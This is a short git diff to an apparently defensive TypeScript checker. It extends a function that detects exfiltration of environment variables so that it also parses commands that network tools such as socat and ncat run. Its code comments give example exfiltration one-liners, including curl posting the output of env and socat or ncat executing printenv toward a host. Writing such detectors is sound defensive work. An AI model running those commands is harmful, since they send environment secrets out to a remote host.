@@ -4,6 +4,7 @@ import { type Invocation, unwrap } from './command.ts';
 import { environFile, printsEnvironment } from './environment-printers.ts';
 import type { Finding } from './git-rules.ts';
 import { inputFiles, namedFiles, networkPath, networkSink } from './network-sinks.ts';
+import { parseShell } from './shell.ts';
 import type { Redirect, Script } from './syntax.ts';
 
 /**
@@ -78,6 +79,9 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
     // its arguments, made by a printer (`curl -d "$(env)"`, `curl -H "X: $(printenv)"`)
     const made = scriptsPrint(d.inv.command.words.flatMap((w) => w.subs));
     if (made) return finding(made, sink.program);
+    // a program it runs and sends the output of (`socat EXEC:env TCP:h:80`, `ncat --sh-exec printenv h 1`)
+    const ran = scriptsPrint(sink.runs.map((line) => parseShell(line, { home: '/' })));
+    if (ran) return finding(ran, sink.program);
   }
   return null;
 }
